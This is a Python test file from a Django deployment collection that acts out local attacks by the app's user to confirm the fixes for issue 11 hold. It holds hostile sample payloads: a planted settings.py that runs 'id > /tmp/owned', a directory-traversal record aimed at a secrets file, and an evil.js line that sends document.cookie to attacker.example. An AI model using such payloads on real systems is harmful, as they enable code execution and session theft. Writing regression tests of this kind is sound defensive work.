# -*- coding: utf-8 -*-
# Copyright: (c) 2026, simpledeploy developers
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)

"""Review of issue 11 (static files, hooks, health check), as the app's user would attack it.

Each test performs the attack for real (the ``attacker`` fixture runs as ``nobody``, the app's user of the
threat model) and asserts what must hold; each failed before its fix (they were xfail(strict) until then).
"""

from __future__ import absolute_import, division, print_function

import os
import subprocess

import pytest

from ansible_collections.simpledeploy.django.plugins.module_utils import _static
from ansible_collections.simpledeploy.django.plugins.modules import health_check

USERINFO_SECRET = 'pw-userinfo-secret-81c4'


def _nest(top, depth):
    """As the app's user: a chain of DEPTH directories below TOP (chdir each time: no path is too long)."""
    os.chdir(top)
    for _level in range(depth):
        os.mkdir('d', 0o700)
        os.chdir('d')
    return depth


@pytest.fixture
def deploy_root(world_readable_dir):
    """A directory of root's the app's user can read and enter but not write, as deploy_root is."""
    path = os.path.join(world_readable_dir, 'srv')
    os.mkdir(path, 0o755)
    yield path
    # rm (C, no recursion limit): shutil.rmtree of the fixture below would hit Python's on the deep trees.
    subprocess.run(['rm', '-rf', '--one-file-system', path], check=False)


def test_app_user_cannot_block_every_later_deploy_with_a_deep_tree(attacker, deploy_root):
    # The app's user finds the wrapper by listing deploy_root (0755) and writes into its own out/ while
    # collectstatic runs (or the project's collectstatic does it): 3000 nested directories.
    try:
        with _static.work_dir(deploy_root, attacker.uid, attacker.gid) as out:
            attacker.run(_nest, out, 3000)
    except (OSError, RecursionError, _static.StaticError):
        pass  # this run may fail, with a message
    # The next deploy must not be blocked by what the app's user left.
    try:
        with _static.work_dir(deploy_root, attacker.uid, attacker.gid):
            pass
    except RecursionError:
        pytest.fail('the next deploy fails too (RecursionError in the stale wrapper\'s removal): the app user '
                    'blocks every deploy until someone removes %s by hand' % deploy_root)


def test_a_deep_tree_in_the_output_is_refused_with_a_message(attacker, deploy_root):
    tree = os.path.join(deploy_root, 'staging')
    os.mkdir(tree, 0o755)
    with _static.work_dir(deploy_root, attacker.uid, attacker.gid) as out:
        attacker.run(_nest, out, 1500)
        try:
            with pytest.raises(_static.StaticError):
                _static.copy_collected(out, tree, 'staticfiles')
        finally:
            # So that only the copy is judged here (the removal is the test above's).
            attacker.run(lambda top: subprocess.run(['rm', '-rf', os.path.join(top, 'd')], check=False).returncode, out)


def test_the_app_user_cannot_replace_release_code_through_a_static_root_over_a_package(attacker, deploy_root):
    tree = os.path.join(deploy_root, 'staging')
    package = os.path.join(tree, 'site_')
    os.makedirs(package)
    for path, text in ((os.path.join(tree, 'manage.py'), '# manage\n'),
                       (os.path.join(package, '__init__.py'), ''),
                       (os.path.join(package, 'settings.py'), 'SAFE = True\n')):
        with open(path, 'w', encoding='utf-8') as handle:
            handle.write(text)

    def plant(top):
        with open(os.path.join(top, 'settings.py'), 'w', encoding='utf-8') as handle:
            handle.write('import os; os.system("id > /tmp/owned")\n')
        return True

    with _static.work_dir(deploy_root, attacker.uid, attacker.gid) as out:
        attacker.run(plant, out)
        try:
            relative = _static.placement(package, tree, tree)  # STATIC_ROOT = BASE_DIR / 'site_'
            _static.copy_collected(out, tree, relative)
        except _static.StaticError:
            pass
    with open(os.path.join(package, 'settings.py'), encoding='utf-8') as handle:
        assert handle.read() == 'SAFE = True\n'


def test_carry_over_never_reaches_outside_the_previous_tree(deploy_root):
    outside = os.path.join(deploy_root, 'outside')
    os.mkdir(outside, 0o700)
    with open(os.path.join(outside, 'app.env'), 'w', encoding='utf-8') as handle:
        handle.write('DJANGO_SECRET_KEY=root-only\n')
    previous = os.path.join(deploy_root, 'code')
    tree = os.path.join(deploy_root, 'staging')
    os.mkdir(previous, 0o755)
    os.mkdir(tree, 0o755)
    _static.write_record(previous, os.path.join('..', 'outside'), ['app.env'])
    carried = _static.carry_over(previous, tree, 'staticfiles', [])
    assert carried == 0
    assert not os.path.exists(os.path.join(tree, 'staticfiles', 'app.env'))


def test_health_check_never_shows_the_urls_userinfo(run_module):
    result = run_module(health_check, dict(url='http://probe:%s@127.0.0.1:9/health/' % USERINFO_SECRET,
                                           timeout=0, request_timeout=1))
    assert result.get('failed')
    assert USERINFO_SECRET not in result.raw


def _find_and_plant(top):
    """As the app's user, not collectstatic: list TOP (deploy_root), enter each work directory's out/ (its name
    is in the collection's source) and plant a script there."""
    for name in os.listdir(top):
        out = os.path.join(top, name, 'out')
        if name.startswith(_static.WORK_PREFIX) and os.access(out, os.W_OK):
            with open(os.path.join(out, 'evil.js'), 'w', encoding='utf-8') as handle:
                handle.write('fetch("https://attacker.example/?c=" + document.cookie)\n')
            return out
    return None


def test_other_processes_of_the_app_user_cannot_find_the_collectstatic_output(attacker, deploy_root):
    with _static.work_dir(deploy_root, attacker.uid, attacker.gid):
        planted = attacker.run(_find_and_plant, deploy_root)
    assert planted is None, 'the app user found %s and planted evil.js there' % planted
